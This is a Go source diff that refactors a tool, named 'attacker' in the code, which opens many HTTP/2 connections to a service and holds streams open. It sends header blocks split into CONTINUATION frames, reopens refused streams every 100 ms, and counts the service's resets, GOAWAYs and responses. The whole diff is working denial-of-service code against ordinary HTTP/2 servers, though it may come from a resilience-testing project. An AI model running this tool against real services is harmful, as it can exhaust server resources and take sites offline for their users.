@@ -38,6 +38,15 @@ func attackStreams(ctx context.Context, a *attacker, rate float64) {
 	running.Wait()
 }
 
+// A streamConn is an HTTP/2 connection of the attack.
+type streamConn struct {
+	a      *attacker
+	framer *http2.Framer
+	closed chan struct{} // by the service
+
+	writing sync.Mutex // guards the framer's writes
+}
+
 // holdStreams opens streams on one connection until the service closes it.
 func (a *attacker) holdStreams(ctx context.Context, kind int) {
 	conn, err := a.dial(ctx, "h2")
@@ -50,28 +59,26 @@ func (a *attacker) holdStreams(ctx context.Context, kind int) {
 	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		return
 	}
-	framer := http2.NewFramer(conn, conn)
-	var writing sync.Mutex
-	if err := framer.WriteSettings(); err != nil {
+	c := &streamConn{a: a, framer: http2.NewFramer(conn, conn), closed: make(chan struct{})}
+	if err := c.framer.WriteSettings(); err != nil {
 		return
 	}
-	closed := make(chan struct{})
 	go func() {
-		defer close(closed)
-		a.readFrames(framer, &writing)
+		defer close(c.closed)
+		c.readFrames()
 	}()
-	a.openStreams(ctx, framer, &writing, kind, closed)
+	c.openStreams(ctx, kind)
 }
 
 // openStreams opens streamsOfConn streams, and then another one each 100 ms in
 // place of those that were refused.
-func (a *attacker) openStreams(ctx context.Context, f *http2.Framer, writing *sync.Mutex, kind int, closed <-chan struct{}) {
+func (c *streamConn) openStreams(ctx context.Context, kind int) {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
 	for n := 0; ; n++ {
 		if n >= streamsOfConn {
 			select {
-			case <-closed:
+			case <-c.closed:
 				return
 			case <-ctx.Done():
 				return
@@ -79,15 +86,12 @@ func (a *attacker) openStreams(ctx context.Context, f *http2.Framer, writing *sy
 			}
 		}
 		block.Reset()
-		a.encodeHeader(encoder, kind)
-		writing.Lock()
-		err := writeHeaders(f, uint32(2*n+1), block.Bytes())
-		writing.Unlock()
-		if err != nil {
-			a.count("closed while sending")
+		c.a.encodeHeader(encoder, kind)
+		if err := c.writeHeaders(uint32(2*n+1), block.Bytes()); err != nil {
+			c.a.count("closed while sending")
 			return
 		}
-		a.count("streams")
+		c.a.count("streams")
 	}
 }
 
@@ -114,39 +118,45 @@ func (a *attacker) encodeHeader(e *hpack.Encoder, kind int) {
 
 // writeHeaders sends a header block, in frames of at most 16 KiB. The stream
 // stays open.
-func writeHeaders(f *http2.Framer, stream uint32, block []byte) error {
+func (c *streamConn) writeHeaders(stream uint32, block []byte) error {
+	c.writing.Lock()
+	defer c.writing.Unlock()
 	first := block[:min(len(block), 16<<10)]
 	block = block[len(first):]
-	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndHeaders: len(block) == 0})
+	err := c.framer.WriteHeaders(http2.HeadersFrameParam{
+		StreamID:      stream,
+		BlockFragment: first,
+		EndHeaders:    len(block) == 0,
+	})
 	for err == nil && len(block) > 0 {
 		next := block[:min(len(block), 16<<10)]
 		block = block[len(next):]
-		err = f.WriteContinuation(stream, len(block) == 0, next)
+		err = c.framer.WriteContinuation(stream, len(block) == 0, next)
 	}
 	return err
 }
 
-// readFrames answers settings, and counts what the service refuses, until the
-// connection is closed.
-func (a *attacker) readFrames(f *http2.Framer, writing *sync.Mutex) {
+// readFrames acknowledges settings, and counts what the service refuses, until
+// the connection is closed.
+func (c *streamConn) readFrames() {
 	for {
-		frame, err := f.ReadFrame()
+		frame, err := c.framer.ReadFrame()
 		if err != nil {
 			return
 		}
 		switch frame := frame.(type) {
 		case *http2.SettingsFrame:
 			if !frame.IsAck() {
-				writing.Lock()
-				f.WriteSettingsAck() // if this fails, so does the next read
-				writing.Unlock()
+				c.writing.Lock()
+				c.framer.WriteSettingsAck() // if this fails, so does the next read
+				c.writing.Unlock()
 			}
 		case *http2.RSTStreamFrame:
-			a.count("reset " + frame.ErrCode.String())
+			c.a.count("reset " + frame.ErrCode.String())
 		case *http2.GoAwayFrame:
-			a.count("go away " + frame.ErrCode.String())
+			c.a.count("go away " + frame.ErrCode.String())
 		case *http2.HeadersFrame:
-			a.count("responses")
+			c.a.count("responses")
 		}
 	}
 }
